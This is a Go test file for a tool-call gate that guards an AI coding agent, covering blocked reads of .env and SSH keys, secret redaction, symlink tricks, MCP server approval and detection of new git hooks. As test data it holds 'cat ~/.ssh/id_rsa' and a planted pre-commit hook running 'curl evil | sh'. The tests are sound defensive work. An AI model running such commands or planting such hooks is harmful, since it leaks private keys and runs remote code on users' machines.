package helper

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/piagent/piagent/internal/approval"
	"github.com/piagent/piagent/internal/engine"
	"github.com/piagent/piagent/internal/gate"
	"github.com/piagent/piagent/internal/registry"
	"github.com/piagent/piagent/internal/testenv"
)

type client struct {
	t    testing.TB
	in   *io.PipeWriter
	out  *bufio.Reader
	done chan error
	id   int
}

func start(t testing.TB, home, cwd string) *client {
	t.Helper()
	return startServer(t, &Server{Engine: &engine.Engine{Home: home, Cwd: cwd}, Build: "test"})
}

func startServer(t testing.TB, s *Server) *client {
	t.Helper()
	inR, inW := io.Pipe()
	outR, outW := io.Pipe()
	c := &client{t: t, in: inW, out: bufio.NewReader(outR), done: make(chan error, 1)}
	ended := make(chan struct{})
	go func() {
		err := s.Serve(inR, outW)
		outW.Close()
		c.done <- err
		close(ended)
	}()
	// the helper's files are gone only once it ended (its background
	// drain may be writing in the test's folders)
	t.Cleanup(func() {
		inW.Close()
		outR.Close()
		<-ended
		s.Engine.Close()
	})
	var hello Hello
	line, err := c.out.ReadBytes('\n')
	if err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(line, &hello); err != nil || hello.Protocol != Protocol || hello.Version != Version {
		t.Fatalf("handshake %q: %v", line, err)
	}
	return c
}

func (c *client) raw(line string) map[string]any {
	c.t.Helper()
	if _, err := io.WriteString(c.in, line+"\n"); err != nil {
		c.t.Fatal(err)
	}
	resp, err := c.out.ReadBytes('\n')
	if err != nil {
		c.t.Fatalf("no response to %s: %v", line, err)
	}
	var m map[string]any
	if err := json.Unmarshal(resp, &m); err != nil {
		c.t.Fatalf("response %q: %v", resp, err)
	}
	return m
}

func (c *client) call(method string, params any) map[string]any {
	c.t.Helper()
	c.id++
	p, _ := json.Marshal(params)
	m := c.raw(fmt.Sprintf(`{"id":%d,"method":%q,"params":%s}`, c.id, method, p))
	if m["id"] != float64(c.id) {
		c.t.Fatalf("response id %v, want %d", m["id"], c.id)
	}
	return m
}

func project(t testing.TB) (home, cwd string) {
	home, cwd = t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(cwd, ".mcp.json"), []byte(`{"mcpServers": {"repo": {"url": "https://r.example/mcp"}}}`), 0o644)
	return home, cwd
}

func TestHelperDecideAndApprovalElsewhere(t *testing.T) {
	t.Parallel()
	home, cwd := project(t)
	c := start(t, home, cwd)
	call := map[string]any{"toolName": "mcp", "input": map[string]any{"tool": "echo", "server": "repo"}}
	r := c.call("decide", call)["result"].(map[string]any)
	if r["action"] != "block" || r["state"] != "pending-approval" {
		t.Fatalf("unapproved: %v", r)
	}
	if b := c.call("broker", map[string]any{"serverName": "repo"})["result"].(map[string]any); b["action"] != "deny" || !strings.Contains(b["reason"].(string), "pending-approval") {
		t.Fatalf("broker before approval: %v", b)
	}
	if e := c.call("broker", map[string]any{})["error"].(map[string]any); e["code"] != "bad-params" {
		t.Fatalf("broker without a server: %v", e)
	}
	// Another terminal approves: the next call sees it.
	g, err := gate.Load(gate.Options{Home: home, Cwd: cwd})
	if err != nil {
		t.Fatal(err)
	}
	srv, _ := g.Server("repo")
	key, _ := approval.ProjectKey(cwd)
	err = approval.Open(registry.ApprovalStore(home)).Update(func(d *approval.Data) error {
		d.Set(key, "repo", approval.Decision{Decision: "approved", Digest: srv.Digest, DecidedAt: time.Now().UTC().Format(time.RFC3339), Files: map[string]string{}})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	// Allowed now, without the advisory registry's warning: the MCP gate
	// judges the proxy tool (issue 42, item 5).
	r = c.call("decide", call)["result"].(map[string]any)
	if r["action"] != "allow" {
		t.Fatalf("after approval elsewhere: %v", r)
	}
	r = c.call("decide", call)["result"].(map[string]any)
	if r["action"] != "allow" {
		t.Fatalf("second call: %v", r)
	}
	st := c.call("state", nil)["result"].(map[string]any)
	if st["fullBlock"] != false || len(st["servers"].([]any)) != 1 {
		t.Fatalf("state: %v", st)
	}
	if b := c.call("broker", map[string]any{"serverName": "repo"})["result"].(map[string]any); b["action"] != "allow" {
		t.Fatalf("broker: %v", b)
	}
}

func TestHelperErrorsInBand(t *testing.T) {
	t.Parallel()
	home, cwd := project(t)
	c := start(t, home, cwd)
	if e := c.call("nosuch", nil)["error"].(map[string]any); e["code"] != "unknown-method" {
		t.Errorf("unknown method: %v", e)
	}
	if e := c.call("decide", map[string]any{"input": map[string]any{}})["error"].(map[string]any); e["code"] != "bad-params" {
		t.Errorf("missing toolName: %v", e)
	}
	if e := c.raw(`{"id":"s","method":"decide","params":{"toolName":5}}`)["error"].(map[string]any); e["code"] != "bad-params" {
		t.Errorf("wrong type: %v", e)
	}
	if r := c.call("ping", nil)["result"].(map[string]any); r["ok"] != true {
		t.Errorf("ping after errors: %v", r)
	}
	// Broken framing: answered once, then the helper exits.
	m := c.raw(`this is not json`)
	if e := m["error"].(map[string]any); e["code"] != "framing" {
		t.Errorf("framing: %v", m)
	}
	select {
	case err := <-c.done:
		if !errors.Is(err, ErrFraming) {
			t.Errorf("Serve returned %v, want ErrFraming", err)
		}
	case <-time.After(testenv.Slow(5 * time.Second)):
		t.Fatal("helper did not exit on broken framing")
	}
}

func TestHelperPolicyAndRedact(t *testing.T) {
	t.Parallel()
	home, cwd := project(t)
	os.WriteFile(filepath.Join(cwd, ".env"), []byte("TOKEN=x\n"), 0o600)
	c := start(t, home, cwd)
	r := c.call("decide", map[string]any{"toolName": "read", "input": map[string]any{"path": ".env"}})["result"].(map[string]any)
	if r["action"] != "block" || r["code"] != "protected-path" {
		t.Fatalf("read .env: %v", r)
	}
	r = c.call("decide", map[string]any{"toolName": "read", "input": map[string]any{"path": "main.go"}})["result"].(map[string]any)
	if r["action"] != "allow" {
		t.Fatalf("read main.go: %v", r)
	}
	r = c.call("check", map[string]any{"toolName": "bash", "input": map[string]any{"command": "cat ~/.ssh/id_rsa"}})["result"].(map[string]any)
	if r["action"] != "block" {
		t.Fatalf("check cat id_rsa: %v", r)
	}
	content := []any{map[string]any{"type": "text", "text": "main.go:1:package main\n.env:1:TOKEN=x\n"}, map[string]any{"type": "image", "data": "AAAA"}}
	red := c.call("redact", map[string]any{"toolName": "grep", "input": map[string]any{"pattern": "x"}, "content": content})["result"].(map[string]any)
	parts := red["content"].([]any)
	text := parts[0].(map[string]any)["text"].(string)
	if strings.Contains(text, "TOKEN=x") || !strings.Contains(text, "main.go:1") || !strings.Contains(text, "piagent:") {
		t.Fatalf("redacted grep output: %q", text)
	}
	if parts[1].(map[string]any)["data"] != "AAAA" {
		t.Fatalf("non-text part changed: %v", parts[1])
	}
	m := c.call("mode", map[string]any{"set": "readOnly"})["result"].(map[string]any)
	if m["mode"] != "readOnly" {
		t.Fatalf("mode: %v", m)
	}
	r = c.call("decide", map[string]any{"toolName": "write", "input": map[string]any{"path": "main.go", "content": "x"}})["result"].(map[string]any)
	if r["action"] != "block" || r["code"] != "mode-denied" {
		t.Fatalf("write in readOnly: %v", r)
	}
}

func TestHelperFailsClosedWithoutGate(t *testing.T) {
	t.Parallel()
	_, cwd := project(t)
	c := start(t, "", cwd) // no home: the gate cannot be evaluated
	r := c.call("decide", map[string]any{"toolName": "read", "input": map[string]any{"path": "x"}})["result"].(map[string]any)
	if r["action"] != "block" || !strings.Contains(r["reason"].(string), "cannot be evaluated") {
		t.Fatalf("no gate: %v", r)
	}
}

// BenchmarkRoundTrip is one decide request over a pipe, signature check
// included.
// BenchmarkRoundTripBash is the same for a typical bash command: the
// command reader, the tool policy and the gate's self-protection.
func BenchmarkRoundTripBash(b *testing.B) {
	home, cwd := project(b)
	os.MkdirAll(filepath.Join(cwd, "src"), 0o755)
	c := start(b, home, cwd)
	b.ReportAllocs()
	n := 0
	for b.Loop() {
		// a new line each time, as an agent's are
		n++
		req := `{"id":1,"method":"decide","params":{"toolName":"bash","input":{"command":"cd src && go test ./... 2>&1 | grep -v '^ok' | head -n ` + strconv.Itoa(n) + `"}}}` + "\n"
		if _, err := io.WriteString(c.in, req); err != nil {
			b.Fatal(err)
		}
		if _, err := c.out.ReadBytes('\n'); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkRoundTrip(b *testing.B) {
	home, cwd := project(b)
	c := start(b, home, cwd)
	req := `{"id":1,"method":"decide","params":{"toolName":"read","input":{"path":"README.md"}}}` + "\n"
	b.ReportAllocs()
	for b.Loop() {
		if _, err := io.WriteString(c.in, req); err != nil {
			b.Fatal(err)
		}
		if _, err := c.out.ReadBytes('\n'); err != nil {
			b.Fatal(err)
		}
	}
}

// TestLinkCacheSeesSwaps: the helper remembers where paths lead between
// calls, and a path turned into a link to a protected file, or a folder on
// the way swapped for a link, is seen on the next call.
func TestLinkCacheSeesSwaps(t *testing.T) {
	home, cwd := project(t)
	os.MkdirAll(filepath.Join(cwd, "src"), 0o755)
	os.WriteFile(filepath.Join(cwd, "src", "a.go"), []byte("package a\n"), 0o644)
	os.WriteFile(filepath.Join(cwd, ".env"), []byte("TOKEN=x\n"), 0o600)
	os.MkdirAll(filepath.Join(home, ".ssh"), 0o700)
	os.WriteFile(filepath.Join(home, ".ssh", "a.go"), []byte("key\n"), 0o600)
	c := start(t, home, cwd)
	read := func(p string) string { t.Helper(); return readAction(c, p) }
	for range 3 {
		if a := read("src/a.go"); a != "allow" {
			t.Fatalf("read src/a.go: %s", a)
		}
	}
	// the file becomes a link to .env
	os.Remove(filepath.Join(cwd, "src", "a.go"))
	if err := os.Symlink(filepath.Join(cwd, ".env"), filepath.Join(cwd, "src", "a.go")); err != nil {
		t.Fatal(err)
	}
	if a := read("src/a.go"); a != "block" {
		t.Fatalf("read of src/a.go, now a link to .env: %s", a)
	}
	// the folder on the way becomes a link into ~/.ssh
	os.Remove(filepath.Join(cwd, "src", "a.go"))
	os.WriteFile(filepath.Join(cwd, "src", "a.go"), []byte("package a\n"), 0o644)
	if a := read("src/a.go"); a != "allow" {
		t.Fatalf("read src/a.go again: %s", a)
	}
	os.Rename(filepath.Join(cwd, "src"), filepath.Join(cwd, "src.old"))
	if err := os.Symlink(filepath.Join(home, ".ssh"), filepath.Join(cwd, "src")); err != nil {
		t.Fatal(err)
	}
	if a := read("src/a.go"); a != "block" {
		t.Fatalf("read of src/a.go, src now a link into ~/.ssh: %s", a)
	}
}

// TestLinkCacheSeesCreation: a path remembered as missing is seen once it
// exists, also when it comes with a folder that did not exist.
func TestLinkCacheSeesCreation(t *testing.T) {
	home, cwd := project(t)
	os.WriteFile(filepath.Join(cwd, ".env"), []byte("TOKEN=x\n"), 0o600)
	c := start(t, home, cwd)
	read := func(p string) string { t.Helper(); return readAction(c, p) }
	for range 3 {
		if a := read("new/dir/b.go"); a != "allow" {
			t.Fatalf("read of a missing file: %s", a)
		}
	}
	os.MkdirAll(filepath.Join(cwd, "new"), 0o755)
	if err := os.Symlink(cwd, filepath.Join(cwd, "new", "dir")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(cwd, ".env"), filepath.Join(cwd, "b.go")); err != nil {
		t.Fatal(err)
	}
	if a := read("new/dir/b.go"); a != "block" {
		t.Fatalf("read of new/dir/b.go, now leading to .env: %s", a)
	}
}

// readAction is the action the helper answers for a read of p.
func readAction(c *client, p string) string {
	c.t.Helper()
	r := c.call("decide", map[string]any{"toolName": "read", "input": map[string]any{"path": p}})["result"].(map[string]any)
	return r["action"].(string)
}

// pace records what the helper tells its Pace, in order.
type pace chan string

func (p pace) Busy() { p <- "busy" }
func (p pace) Idle() { p <- "idle" }

// TestPaceToldBusyAndIdle: the helper tells its Pace (the mains' collector
// between calls) Busy when a request arrives and Idle only once it has
// answered with no other request waiting: two requests that arrive
// together are answered with no Idle between them.
func TestPaceToldBusyAndIdle(t *testing.T) {
	home, cwd := project(t)
	p := make(pace, 16)
	c := startServer(t, &Server{Engine: &engine.Engine{Home: home, Cwd: cwd}, Build: "test", Pace: p})
	req := `{"id":1,"method":"decide","params":{"toolName":"read","input":{"path":"a.go"}}}` + "\n"
	if _, err := io.WriteString(c.in, req+req); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if _, err := c.out.ReadBytes('\n'); err != nil {
			t.Fatal(err)
		}
	}
	var got []string
	for len(got) < 3 {
		select {
		case e := <-p:
			got = append(got, e)
		case <-time.After(10 * time.Second):
			t.Fatalf("told %v, then nothing", got)
		}
	}
	if want := []string{"busy", "busy", "idle"}; !slices.Equal(got, want) {
		t.Errorf("told %v, want %v", got, want)
	}
	c.in.Close()
	if err := <-c.done; err != nil {
		t.Fatal(err)
	}
	select {
	case e := <-p:
		if e != "busy" {
			t.Errorf("at the end of input told %q, want busy (the pause ends with the helper)", e)
		}
	default:
		t.Error("at the end of input told nothing")
	}
}

// TestHookSeenInOneRead: a hook written between two calls blocks the next
// one, whose drains read the engine's shared inotify instance once (the
// gate's drain reads it first and hands the session's watch its events,
// fswatch.Hub.Begin).
func TestHookSeenInOneRead(t *testing.T) {
	home, cwd := project(t)
	if out, err := exec.Command("git", "-C", cwd, "init", "-q").CombinedOutput(); err != nil {
		t.Skipf("git init: %v %s", err, out)
	}
	os.WriteFile(filepath.Join(cwd, "README.md"), []byte("# x\n"), 0o644)
	c := start(t, home, cwd)
	for range 2 {
		if a := readAction(c, "README.md"); a != "allow" {
			t.Fatalf("read README.md before: %s", a)
		}
	}
	if err := os.WriteFile(filepath.Join(cwd, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	r := c.call("decide", map[string]any{"toolName": "read", "input": map[string]any{"path": "README.md"}})["result"].(map[string]any)
	if r["action"] != "block" || !strings.Contains(fmt.Sprint(r["reason"]), "hooks") {
		t.Fatalf("the call after a hook was written: %v", r)
	}
}
